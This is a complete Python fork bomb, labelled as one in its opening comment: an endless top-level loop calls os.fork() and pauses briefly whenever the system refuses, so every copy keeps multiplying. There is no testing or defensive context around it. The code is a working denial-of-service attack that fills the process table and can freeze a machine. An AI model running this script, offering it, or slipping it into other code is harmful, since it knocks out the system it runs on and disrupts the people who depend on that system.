# A fork bomb at the top level: every process keeps forking (politely: it naps when refused).
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
